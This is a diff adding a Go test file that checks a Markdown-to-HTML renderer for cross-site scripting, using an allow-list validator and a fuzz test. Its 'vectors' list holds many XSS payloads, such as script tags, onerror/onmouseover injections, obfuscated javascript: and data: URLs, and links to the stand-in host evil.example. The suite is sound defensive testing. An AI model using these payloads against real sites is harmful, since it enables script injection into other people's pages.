@@ -1,0 +1,212 @@
+package render
+
+import (
+	"fmt"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+)
+
+// allowed lists every element that may come out, and its attributes.
+var allowed = map[string]string{
+	"a": "href title rel class role data-carrel-kind", "img": "src alt title loading", "input": "type disabled checked",
+	"h1": "id", "h2": "id", "h3": "id", "h4": "id", "h5": "id", "h6": "id", "p": "", "br": "", "hr": "", "blockquote": "",
+	"ul": "", "ol": "start", "li": "id", "dl": "", "dt": "", "dd": "", "pre": "", "code": "class", "em": "", "strong": "",
+	"del": "", "sup": "id", "div": "class role tabindex", "table": "", "thead": "", "tbody": "", "tr": "",
+	"th": "align", "td": "align",
+}
+
+// values lists what an attribute may hold, where it is not free text.
+var values = map[string]string{
+	"rel": "noopener noreferrer", "role": "doc-noteref|doc-backlink|doc-endnotes", "tabindex": "0", "loading": "lazy",
+	"type": "checkbox", "disabled": "", "checked": "", "align": "left|right|center",
+	"data-carrel-kind": "video|photos|slides|document|repository|chat|event|page|image|form|map|calendar|post|audio",
+}
+
+// unsafe reports the first thing in out that must not be there.
+func unsafe(out string, opt Options) error {
+	if err := tagsMatch(out); err != nil {
+		return err
+	}
+	root, err := html.Parse(strings.NewReader(out))
+	if err != nil {
+		return err
+	}
+	for n := range root.Descendants() {
+		if n.Type == html.CommentNode || n.Type == html.DoctypeNode {
+			return fmt.Errorf("a comment or a doctype: %q", n.Data)
+		}
+		if n.Type != html.ElementNode || slices.Contains([]string{"html", "head", "body"}, n.Data) {
+			continue
+		}
+		if err := unsafeElement(n, opt); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// tagsMatch holds each tag of the text itself to the list, html, head and body
+// among them, and each end tag to its start tag.
+func tagsMatch(out string) error {
+	var open []string
+	for z := html.NewTokenizer(strings.NewReader(out)); ; {
+		switch kind := z.Next(); kind {
+		case html.ErrorToken:
+			if len(open) > 0 {
+				return fmt.Errorf("not closed: %q", open)
+			}
+			return nil
+		case html.StartTagToken:
+			name, _ := z.TagName()
+			if _, ok := allowed[string(name)]; !ok {
+				return fmt.Errorf("tag %q", name)
+			}
+			if !slices.Contains([]string{"img", "br", "hr", "input"}, string(name)) {
+				open = append(open, string(name))
+			}
+		case html.EndTagToken:
+			name, _ := z.TagName()
+			if len(open) == 0 || open[len(open)-1] != string(name) {
+				return fmt.Errorf("end of %q within %q", name, open)
+			}
+			open = open[:len(open)-1]
+		case html.TextToken:
+		default:
+			return fmt.Errorf("a %v: %q", kind, z.Raw())
+		}
+	}
+}
+
+func unsafeElement(n *html.Node, opt Options) error {
+	attributes, ok := allowed[n.Data]
+	if !ok {
+		return fmt.Errorf("element %q", n.Data)
+	}
+	for _, a := range n.Attr {
+		if !slices.Contains(strings.Fields(attributes), a.Key) {
+			return fmt.Errorf("attribute %q of %q", a.Key, n.Data)
+		}
+		if list, ok := values[a.Key]; ok && !slices.Contains(strings.Split(list, "|"), a.Val) {
+			return fmt.Errorf("%s=%q", a.Key, a.Val)
+		}
+		if err := unsafeAddress(n, a, opt); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// unsafeAddress judges an address by net/url, after what a browser does to it.
+func unsafeAddress(n *html.Node, a html.Attribute, opt Options) error {
+	if a.Key != "href" && a.Key != "src" {
+		return nil
+	}
+	seen := strings.NewReplacer("\t", "", "\n", "", "\r", "", `\`, "/").Replace(strings.TrimSpace(a.Val))
+	scheme, _, found := strings.Cut(seen, ":")
+	if found && !strings.ContainsAny(scheme, "/?#") && !slices.Contains([]string{"http", "https", "mailto", "tel"}, scheme) {
+		return fmt.Errorf("%s=%q", a.Key, a.Val)
+	}
+	web := strings.HasPrefix(seen, "http") || strings.HasPrefix(seen, "//")
+	if a.Key == "src" && web && opt.Images != ImagesAll && !strings.HasPrefix(seen, opt.Site+"/") {
+		return fmt.Errorf("an image of another host: %q", a.Val)
+	}
+	rel := slices.Contains(n.Attr, html.Attribute{Key: "rel", Val: "noopener noreferrer"})
+	if u, err := url.Parse(seen); a.Key == "href" && web && err == nil && u.Scheme+"://"+u.Host != opt.Site && !rel {
+		return fmt.Errorf("a link to another host without rel: %q", a.Val)
+	}
+	return nil
+}
+
+var here = Options{Base: "/blog/a/", Site: "https://example.org"}
+
+// vectors are ways to bring code, or a request that nobody asked for, into a
+// page.
+var vectors = []string{
+	"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
+	"<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+	"<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
+	"<a href=javascript:alert(1)>x</a>", "<style>@import '//evil.example'</style>", "<!-- --><script>alert(1)</script>",
+	"<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!DOCTYPE html><base href=//evil.example>",
+	"<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>x", "</p></div></body>",
+	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1))", "[x](<java\tscript:alert(1)>)",
+	"[x](<\tjavascript:alert(1)>)", "[x](java&#115;cript:alert(1))", "[x](&#106;&#97;vascript&colon;alert(1))",
+	"[x](&#x6A;avascript&#58;alert(1))", "[x](java\\script:alert(1))", "[x](javascript\\:alert(1))", "[x](\x01javascript:alert(1))",
+	"[x](java&Tab;script:alert(1))", "[x](java&NewLine;script:alert(1))", "[x](&#1;javascript:alert(1))", "[x](\u00a0javascript:alert(1))",
+	"[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
+	"[x](file:///etc/passwd)", "[x](blob:https://example.org/1)", "[x](view-source:javascript:alert(1))", "[x](feed:javascript:alert(1))",
+	"[x](jar:https://evil.example!/)", "[x](about:blank)", "[x](intent://evil#Intent;end)", "[x](ws://evil.example)",
+	"![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](//evil.example/p.png)",
+	"![x](/\\evil.example/p.png)", "![x](\\\\evil.example/p.png)", "![x](https:evil.example/p.png)", "![x](https:///evil.example/p.png)",
+	"![x](https://example.org@evil.example/p.png)", "![x](https://example.org.evil.example/p.png)", "![x](/.//evil.example/p.png)",
+	"![x](..//..//evil.example/p.png)", "![x](https://example.org\\@evil.example/p.png)", "![x](https://example.org:443@evil.example/)",
+	"![x](/%09/evil.example/p.png)", "![x](</\t/evil.example/p.png>)", "![x](https://EVIL.example/p.png \"video\")",
+	"<javascript:alert(1)>", "<data:text/html,x>", "<JAVASCRIPT:alert(1)>", "<vbscript:x>", "<a@b.example\"onmouseover=alert(1)>",
+	"[a]: javascript:alert(1)\n\n[a]", "[a]: <java\nscript:alert(1)>\n\n[a]", "[x][a]\n\n[a]: data:text/html,x 'video'",
+	"[x](/ \"\\\" onmouseover=alert(1) x=\\\"\")", "[x](/ '\" onmouseover=\"alert(1)')", "[x](/\"onmouseover=alert(1))",
+	"![\" onerror=\"alert(1)](/x.png)", "![x](/x.png\"onerror=alert(1))", "![x](/x.png '\"><script>alert(1)</script>')",
+	"![&quot; onerror=&quot;alert(1)](/x.png)", "[x](/ \"&quot; onmouseover=&quot;alert(1)\")", "[x](/&quot;onmouseover=alert(1))",
+	"# x {#a onclick=alert(1)}", "# x {#a\"onclick=alert(1)}", "# x {onclick=alert(1)}", "# x {#\"><script>alert(1)</script>}",
+	"# x {style=\"background:url(//evil.example)\" #y}", "x {#y onclick=alert(1)}\n===", "## <script>alert(1)</script>",
+	"```html onclick=alert(1)\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "```js {onclick=alert(1)}\nx\n```",
+	"`<script>alert(1)</script>`", "    <script>alert(1)</script>", "| <img src=x onerror=alert(1)> |\n|-|\n| <script>x |",
+	"[^1]\n\n[^1]: <script>alert(1)</script>", "[^\"><script>]\n\n[^\"><script>]: x", "<script>\n: alert(1)", "- [x] <script>alert(1)</script>",
+	"https://evil.example/\"onmouseover=alert(1)", "www.evil.example\"><script>alert(1)</script>", "http://a.b/<script>", "ftp://evil.example/x",
+	"[x](mailto:a@b.example?subject=\"><script>)", "[x](tel:\"onclick=alert(1))", "~~<script>~~", "*<script>*alert(1)*</script>*",
+	"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\\<script>alert(1)\\</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
+	"<\xffscript>", "[x](\"\xff\"onclick=1)", "![x][y]\n\n[y]: //evil.example/x.png", "[![x](//evil.example/x.png)](/a \"video\")",
+	"[x](/a \"video\\\" onclick=\\\"alert(1)\")", "[a <b@evil.example> https://evil.example](/x)", "![[x](javascript:alert(1))](/x.png)",
+}
+
+func TestVectors(t *testing.T) {
+	for _, images := range []Images{"", ImagesNone, ImagesSame, ImagesAll} {
+		for _, base := range []string{"/blog/a/", "", "https://example.org/blog/a/"} {
+			opt := Options{Base: base, Site: here.Site, Images: images}
+			for _, md := range vectors {
+				out, err := HTML(md, opt)
+				if err == nil {
+					err = unsafe(out, opt)
+				}
+				if err != nil {
+					t.Errorf("%q on %q, images %q: %v in\n%s", md, base, images, err, out)
+				}
+			}
+		}
+	}
+}
+
+// TestUnsafe holds the judge of the tests above to what it must find.
+func TestUnsafe(t *testing.T) {
+	for _, out := range []string{
+		"<script>x</script>", "<p onclick=x>x</p>", "<a href=\"javascript:x\">x</a>", "<a href=\" java\nscript:x\">x</a>", "<!-- x -->",
+		"<a href=\"//evil.example\">x</a>", "<a href=\"https://evil.example/\">x</a>", "<img src=\"https://evil.example/\">", "<p>", "</p>",
+		"<b>x</b>", "<body class=x>", "<img src=\"/\\evil.example\">", "<code style=x>x</code>", "<input type=text>", "<em><strong></em></strong>",
+	} {
+		if unsafe(out, here) == nil {
+			t.Errorf("%s was found to be safe", out)
+		}
+	}
+}
+
+func FuzzHTML(f *testing.F) {
+	for _, md := range vectors {
+		f.Add(md, "/blog/a/", uint8(1))
+	}
+	for _, s := range slow {
+		f.Add(strings.Repeat(s.repeated, 40), "", uint8(0))
+	}
+	f.Add(read(f, "all.md"), "https://example.org/x/", uint8(2))
+	f.Fuzz(func(t *testing.T, md, base string, images uint8) {
+		opt := Options{Base: base, Site: here.Site, Images: []Images{ImagesNone, ImagesSame, ImagesAll}[images%3]}
+		out, err := HTML(md, opt)
+		if err != nil {
+			t.Fatalf("%q: %v", md, err)
+		}
+		if err := unsafe(out, opt); err != nil {
+			t.Errorf("%q: %v in\n%s", md, err, out)
+		}
+	})
+}
